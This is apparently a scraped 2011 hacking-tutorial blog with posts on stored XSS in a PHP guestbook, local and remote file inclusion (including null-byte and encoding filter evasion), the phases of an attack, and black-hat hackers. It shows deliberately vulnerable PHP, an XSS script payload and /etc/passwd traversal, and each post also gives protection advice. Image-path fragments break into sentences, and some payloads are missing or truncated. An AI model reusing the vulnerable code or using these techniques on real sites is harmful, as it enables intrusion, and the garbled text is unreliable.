Thursday, December 8, 2011


  • What is XSS ?
Cross-site scripting (XSS) is a type of computer security vulnerability typically found in Web applications that enables attackers to inject client-side script into Web pages viewed by other users.

In the previous post I've discussed Persistant (Stored) and Non-persistant (Reflected) XSS, used to hijack the user session. Today I'll discuss how to attack the Webapplication through Stored Cross-site scripting.

  • Example:
The following is the simple guestbook script where the users can put name and message that will be stored in the guests table of the guestbook database and then displayed.

Script Code:

<h1>Guestbook page:</h1>
<form action='guestbook.php' method='post'>
<p><label for="name">Name:</label><br />
<input type="text" title="Enter your name" name="name" /></p>
<p><label for="message">Your message:</label><br />
<textarea title="Enter your message" name="message"></textarea></p>
<p><label title="Send your message">
<input type="submit" value="Send" /></label></p>

mysql_select_db("guestbook", $con);
mysql_query("INSERT INTO guests VALUES ('','$name','$message')");
$result=mysql_query("SELECT * FROM guests ORDER BY id DESC");
while($row = mysql_fetch_array($result))
echo $row['name'] . " : " . $row['message'];
echo "<hr />";

If I put name as Rajat and message as Hello everybody !!! in the form, it would look like this :

Now a malicious attacker put the following JavaScript snippet as part of the guestbook message which will result an alert box by the browser:

Script Code:

<script>alert("Guestbook page XSSed !!!")</script>

Which means the attacker has been able to insert a script in the application that is later executed in the context of another user.

Moreover the attacker can deface the website by putting the following code which will open a new browser window consisting the defacement page.

Script Code:

<script type="text/javascript">"", "_self");

  • Protection :
1. The script used in the guestbook page is not able to sanitize the inputs, most importantly the control characters like (< , >). That's why instead of displaying those inputs, it is executing them. In order to sanitize the inputs properly we can use the htmlentities() functionconverts characters to HTML entities as follows:


Now if the attacker put the previous JavaScript, it will be displayed without being executed by the browser like this:

2. Acunetix Web Vulnerability Scanner (WVS) Free Edition offers the functionality for anyone who wants to test their own application for Cross SiteScripting.

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...

Wednesday, November 30, 2011


  • What is Local File Inclusion?
Local File Inclusion (LFI) is the process of including files on a server through the web browser. This vulnerability occurs when a page include is not properly sanitized, and allows directory traversal characters to be injected.

A typical example of a PHP script vulnerable to LFI is as follows:

$page = $_GET['page'];

A legitimate request made to the script could look like this:

This is of little use to apotential attacker, who is more likely to be interested in the files outside the files/ directory. To do this, an attacker could use LFI. The simplest example would be:

The repeated ../ characters has caused include() to traverse to the root directory, and then include the Unix password file /etc/passwd. Unix /etc/passwd is a common file used to demonstrate directory traversal, as it is often used by crackers to try cracking the passwords.

You may also wish to peruse around in other directories, such as:


  • Poison Null Byte Attacks:
Every now and again, though, the website may output that /etc/passwd/ cannot be found simplybecause the server is interpreting the location as if it is /etc/passwd.php/. To correct this, we need to apply what is called a Null Byte. This bit of code looks like: %oo (percent double zero). In SQL, it means 0, but everywhere else in coding, it is interpreted similar to a black hole, such as /dev/null/. This code eliminates the use of an extension. The code would appear as /etc/passwd when entered into the address bar.

  • Filter Evasion:
Most good admins will have protected against the simplest LFI attacks, so we should update the example script accordingly.

$page = str_replace('../', '', $_GET['page']);

One way to break this defence is to encode one or more characters into hexadecimal. This works because the browser decodes the input, but PHP does not. Our new LFI would be:

  • Protection:
  1. Process URI requests that do not result in a file request, e.g.,executing a hook into user code, before continuing below.
  2. When a URI request for a file/directory is to be made, build a full path to the file/directory if it exists, and normalize all characters (e.g., %20 converted to spaces).
  3. It is assumed that a 'Document Root' fully qualified, normalized, path is known, and this string has a length N. Assume that no files outside this directory can be served.
  4. Ensure that the first N characters of the fully qualified path to the requested file is exactly the same as the 'Document Root'. If so, allow the file to be returned. If not, return an error, since the request is clearly out of bounds from what the web-server should be allowed to serve.

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...

Thursday, November 17, 2011


  • Whai is RFI ?
Remote File Inclusion (RFI) is a type of vulnerability most oftenfound on websites. It allows an attacker to include a remote file, usually through a script on the web server. The vulnerability occurs due to the use of user-supplied input without proper validation.

An attacker can use RFI for:

  • Running malicious code on the server: any code in the included malicious files will be run by the server. If the file include is not executed using some wrapper, code in include files is executed in the context of the server user. This could lead to a complete system compromise.
  • Running malicious code on clients: the attacker's malicious code can manipulate the content of the response sent to the client. The attacker can embed malicious code in the response that will be run by the client (for example, Javascript to steal the client session cookies).

  • Example:
Typically, RFI attacks are performed by setting the value of a request parameter to a URL that refers to a malicious file. Consider the following PHP code:

$page = $_REQUEST["page"];

The first line of code extracts the value of the page parameter from the HTTP request. The second line of code dynamically sets the page name to be included using the extracted value. If the web application does not properly sanitize the value of the page parameter, this code can be exploited.

Consider the following URL:In this case the included page name will resolve to:

Thus, the remote file will be included and any malicious code in it will be run by the server. Most popular of them are c99 or r57 shell which allows an attacker to browse the filesystem, upload, view, and edit files as well as move files, delete files, and even change permissions, all as the web server.

  • Prevention:
The most common protection mechanism against RFI attacks is based on signatures for known vulnerabilities in the Web application. Now we can improve the detection and blocking of such attacks by creating a blacklist of attack sources and a black list of URLs of remotely included malicious scripts:

1. Advanced knowledge of RFI attack sources enables the WAF toblock an attack before it even begins.

2. A blacklist of the referenced URL enables the WAF to block exploits targeting zero-day vulnerabilities of applications.

3. The blacklist of IPs constructed from the RFI attackobservations could be used to block other types of attacks issued from the same malicious sources.

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...


  • How does the attack begin ?
Attackers follow a fixed methodology to penetrate into a system. The steps a hacker follows can be broadly divided into five phases:

1. Reconnaissance:

Reconnaissance or Footprinting is consideredthe first pre-attack phase and is a systematic attempt to locate, gather, identify, and record information about the target. The hacker seeks to find out as much information as possible about the victim. Some hackers might dumpster dive to find out more about the victim. Dumpster diving is the act of going through the victim's trash. Another favorite of the hacker is social engineering. A social engineer is a person who can smooth talk other individuals into revealing sensitive information. This might be accomplished by calling the help desk and asking someone to reset a password or by sending an email to an insider telling him he needs to reset an account.

2. Scanning:

Scanning and enumeration is considered the second pre-attack phase. Scanning is the active step of attempting to connect to systems to elicit a response. Enumeration is used to gather more in-depth information about the target, such as open shares and user account information. At this step in the methodology, the hacker is moving from passive information gathering to active information gathering. Hackers begin injecting packets into the network and might start using scanning tools such as Nmap. The goal is to map open ports and applications. Unlike the elite blackhat hacker who attempts to remain stealth, script kiddies might even use vulnerability scanners such asNessus to scan a victim's network.

3. Gaining Access:

As far as potential damage, this could be considered one of the most important steps of an attack. This phase of the attack occurs when the hacker moves from simply probing the network to actually attacking it. After the hacker has gained access, he can begin to move from system to system, spreading his damage as he progresses. Access can be achieved in many different ways. A hacker might find a vulnerability in the web server's software or might perform a denial of service (DOS) on that server. If the hacker is really bold, he might even walk in and tell the receptionist that he is late for a meeting and will wait in the conference room with network access. Pity the poor receptionist who unknowingly provided network access to a malicious hacker.

4. Maintaining Access:

Hackers are diligent at working on ways to maintain access to the systems they have attacked and compromised. They might attempt to pull down the etc/passwd file or steal other passwords so that they can access other user's accounts. Rootkits are one option for hackers. A rootkit is a set of tools used to help the attacker maintain his access to the system and use it for malicious purposes.

5. Clearing Tracks:

Nothing happens in a void, and that includes computer crime. Hackers are much like other criminals in that they would like to be sureto remove all evidence of their activities. Hackers must also be worried about the files or programs they leave on the compromised system. In order that the target company’s security engineer or network administrator cannot detect the evidence of attack, the hacker needs to delete logs files and replace system binaries with Trojans.

  • How do you defend the attack ?
In order to defend a hacker, you have to think from his/her perspective. Being an ethical hacker, you will need to be aware of these tools and techniques to discover their activities and to deploy adequate countermeasures.

Happy Hacking...Enjoy...

For educational purpose only...Do not misuse it...

Monday, June 13, 2011


Black hat is used to describe a hacker who breaks into a computer system or network with malicious intent. Unlike a white hat hacker, the black hat hacker takes advantage of the break-in, perhaps destroying files or stealing data for some future purpose. The black hat hacker may also make the exploit known to other hackers or the public without notifying the victim. The black hats are also called the Crackers.

  • ZombiE_KsA: Founder of PAKbugs-Crew
